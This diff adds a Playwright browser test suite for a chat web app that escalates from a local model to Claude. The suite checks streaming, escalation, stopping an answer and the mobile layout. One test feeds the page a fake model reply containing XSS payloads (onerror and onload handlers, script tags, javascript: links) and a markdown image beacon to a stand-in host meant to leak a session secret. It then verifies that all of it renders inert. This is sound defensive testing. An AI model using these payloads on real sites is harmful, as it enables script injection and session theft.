@@ -1,0 +1,209 @@
+"""The /chat page in headless Chromium against a real Trooper and fake Ollama / Claude upstreams."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Iterator
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Page, expect, sync_playwright
+
+from tests.fakes.behaviours import reply_text
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = [
+    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
+    "--disable-sync", "--no-first-run",
+]
+SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "img"
+CLAUDE_KEY = "sk-ant-test-0123456789abcdef"
+
+
+class Watched:
+    """A page plus what it did that it must not: dialogs, script errors, requests off this host."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.dialogs: list[str] = []
+        self.errors: list[str] = []
+        self.remote_requests: list[str] = []
+        page.on("dialog", self._dialog)
+        page.on("pageerror", lambda error: self.errors.append(str(error)))
+        page.on("request", self._request)
+
+    def _dialog(self, dialog) -> None:  # type: ignore[no-untyped-def]
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def _request(self, request) -> None:  # type: ignore[no-untyped-def]
+        host = urlsplit(request.url).hostname
+        if host not in ("127.0.0.1", None):
+            self.remote_requests.append(request.url)
+
+
+@pytest.fixture
+def browser() -> Iterator:
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def watched(browser) -> Iterator[Watched]:  # type: ignore[no-untyped-def]
+    context = browser.new_context(viewport={"width": 1360, "height": 860})
+    yield Watched(context.new_page())
+    context.close()
+
+
+@pytest.fixture
+def trooper(fake_ollama, fake_anthropic, make_trooper):  # type: ignore[no-untyped-def]
+    return make_trooper(FALLBACK_URL=fake_ollama.api_chat_url, CLAUDE_API_KEY=CLAUDE_KEY, CLAUDE_URL=fake_anthropic.messages_url)
+
+
+def send(page: Page, text: str) -> None:
+    page.fill("#prompt", text)
+    page.press("#prompt", "Enter")
+
+
+def finished_answers(page: Page):  # type: ignore[no-untyped-def]
+    return page.locator(".msg-assistant:not([aria-busy])")
+
+
+def test_chat_streams_escalates_returns_and_keeps_the_sitrep(trooper, fake_ollama, fake_anthropic, watched) -> None:  # type: ignore[no-untyped-def]
+    page = watched.page
+    page.goto(f"{trooper.url}/chat")
+    expect(page.locator("#empty-chat")).to_be_visible()
+    expect(page.locator("#sitrep")).to_contain_text("Not known yet")
+    page.screenshot(path=str(SCREENSHOTS / "chat-empty.png"))
+
+    local_answer = "Use **pytest** fixtures for setup.\n\n```python\ndef test_login(client):\n    assert client.get('/').ok\n```\n"
+    fake_ollama.enqueue(reply_text(local_answer, chunk_delay=0.12))
+    send(page, "Help me fix the flaky login test in the auth service. It still fails on CI.")
+
+    # Tokens appear while the answer is still streaming, as plain text (a text node, no elements).
+    page.wait_for_function(
+        """() => {
+            const body = document.querySelector('.msg-assistant[aria-busy] .msg-body');
+            return body && body.textContent.includes('**pytest**') && body.children.length === 0;
+        }""",
+        timeout=10_000,
+    )
+
+    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
+    first = finished_answers(page).first
+    expect(first.locator(".answer-label")).to_have_text("llama3.1:8b · local")
+    expect(first.locator("strong")).to_have_text("pytest")
+    expect(first.locator("pre code")).to_contain_text("def test_login")
+    expect(first.locator(".copy-code")).to_be_visible()
+    expect(page.locator("#sitrep .intent")).not_to_have_text("Not known yet")
+    expect(page.locator("#sitrep .open-loops li").first).to_contain_text("fails on CI")
+    sitrep_after_first = page.locator("#sitrep").inner_text()
+    assert "#" in page.url, "the session id is kept in the URL so a reload reopens it"
+    page.screenshot(path=str(SCREENSHOTS / "chat-local-answer.png"))
+
+    fake_anthropic.enqueue(reply_text("| Option | Cost |\n|---|--:|\n| retry | low |\n| rewrite | high |\n", chunk_delay=0.05))
+    first.get_by_role("button", name="↑ Escalate").click()
+    expect(page.locator(".divider")).to_have_text("— escalated to Claude —", timeout=10_000)
+    expect(finished_answers(page)).to_have_count(2, timeout=10_000)
+    cloud = finished_answers(page).nth(1)
+    expect(cloud.locator(".answer-label")).to_contain_text("· cloud")
+    expect(cloud.locator("table td").first).to_have_text("retry")
+    expect(page.locator("#route-pill")).to_have_text("Cloud (Claude)")
+    expect(page.locator("#stat-escalations")).to_have_text("1")
+    page.screenshot(path=str(SCREENSHOTS / "chat-escalated.png"))
+
+    cloud.get_by_role("button", name="↩ Back to local").click()
+    expect(page.locator(".divider").nth(1)).to_have_text("— returned to local —")
+    expect(page.locator("#route-pill")).to_have_text("Local first")
+
+    fake_ollama.enqueue(reply_text("The login test passes now: I fixed the race in the session cookie."))
+    send(page, "Great, and the rate limiter in billing-api also needs a look.")
+    expect(finished_answers(page)).to_have_count(3, timeout=10_000)
+    expect(finished_answers(page).nth(2).locator(".answer-label")).to_contain_text("· local")
+    expect(page.locator("#sitrep")).not_to_have_text(sitrep_after_first)
+
+    # A reload reopens the same chat, dividers included.
+    page.reload()
+    expect(finished_answers(page)).to_have_count(3, timeout=10_000)
+    expect(page.locator(".divider")).to_have_count(2)
+    expect(page.locator(".chat-session[aria-current='true']")).to_have_count(1)
+    assert not watched.dialogs and not watched.errors and not watched.remote_requests
+
+
+def test_hostile_model_answer_renders_inert(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
+    page = watched.page
+    hostile = (
+        "Here you go <img src=x onerror=alert('img')> and <script>alert('script')</script>\n\n"
+        "[click me](javascript:alert('link')) and [also](jav&#x09;ascript:alert('tab'))\n\n"
+        "![secret](http://evil.example/collect?q=session-secret)\n\n"
+        "<svg onload=alert('svg')></svg> <iframe src=http://evil.example/frame></iframe>\n"
+    )
+    fake_ollama.enqueue(reply_text(hostile, chunk_delay=0.02))
+    page.goto(f"{trooper.url}/chat")
+    send(page, "Show me <b>markup</b> <img src=y onerror=alert('user')>")
+    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
+
+    messages = page.locator("#messages")
+    expect(messages).to_contain_text("[image removed: secret]")
+    expect(messages).to_contain_text("<img src=x onerror=alert('img')>")
+    expect(page.locator(".msg-user .bubble")).to_have_text("Show me <b>markup</b> <img src=y onerror=alert('user')>")
+    assert messages.locator("img, script, svg, iframe, [onerror], [onload]").count() == 0
+    hrefs = messages.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
+    assert all(href is None or href.startswith(("http://", "https://", "mailto:")) for href in hrefs)
+    messages.get_by_text("click me").click()
+    page.wait_for_timeout(300)
+    assert watched.dialogs == []
+    assert watched.remote_requests == []
+    assert watched.errors == []
+
+
+def test_stop_cancels_a_running_answer(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
+    page = watched.page
+    fake_ollama.enqueue(reply_text(" ".join(f"word{i}" for i in range(200)), chunk_delay=0.1))
+    page.goto(f"{trooper.url}/chat")
+    send(page, "Tell me a very long story")
+    streaming = page.locator(".msg-assistant[aria-busy] .msg-body")
+    expect(streaming).to_contain_text("word2", timeout=10_000)
+    page.get_by_role("button", name="■ Stop").click()
+    expect(page.locator(".msg-note")).to_have_text("Stopped.")
+    expect(page.locator("#send")).to_be_enabled()
+    expect(page.locator("#stop")).to_be_hidden()
+    frozen = page.locator(".msg-assistant .msg-body").text_content()
+    page.wait_for_timeout(500)
+    assert page.locator(".msg-assistant .msg-body").text_content() == frozen
+    assert "word199" not in (frozen or "")
+
+
+def test_escalating_without_a_cloud_explains_what_to_do(fake_ollama, make_trooper, watched) -> None:  # type: ignore[no-untyped-def]
+    server = make_trooper(FALLBACK_URL=fake_ollama.api_chat_url)
+    page = watched.page
+    fake_ollama.enqueue(reply_text("A local answer."))
+    page.goto(f"{server.url}/chat")
+    send(page, "What is a SITREP?")
+    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
+    page.get_by_role("button", name="↑ Escalate").click()
+    notice = page.get_by_role("alert")
+    expect(notice).to_be_visible(timeout=10_000)
+    assert "CLAUDE_API_KEY" in (notice.text_content() or "") or "cloud" in (notice.text_content() or "").lower()
+
+
+def test_chat_on_a_phone(trooper, fake_ollama, browser) -> None:  # type: ignore[no-untyped-def]
+    context = browser.new_context(viewport={"width": 390, "height": 800}, is_mobile=True, has_touch=True)
+    page = context.new_page()
+    fake_ollama.enqueue(reply_text("Sure. Three steps:\n\n1. Reproduce\n2. Isolate\n3. Fix\n"))
+    page.goto(f"{trooper.url}/chat")
+    send(page, "How do I debug a flaky test?")
+    expect(finished_answers(page)).to_have_count(1, timeout=10_000)
+    expect(page.locator("#sitrep-panel")).not_to_be_in_viewport()
+    page.screenshot(path=str(SCREENSHOTS / "chat-phone.png"))
+    page.get_by_role("button", name="SITREP").click()
+    expect(page.locator("#sitrep-panel")).to_be_in_viewport()
+    page.wait_for_timeout(300)  # the drawer's slide-in
+    page.screenshot(path=str(SCREENSHOTS / "chat-phone-sitrep.png"))
+    page.keyboard.press("Escape")
+    expect(page.locator("#sitrep-panel")).not_to_be_in_viewport()
+    context.close()
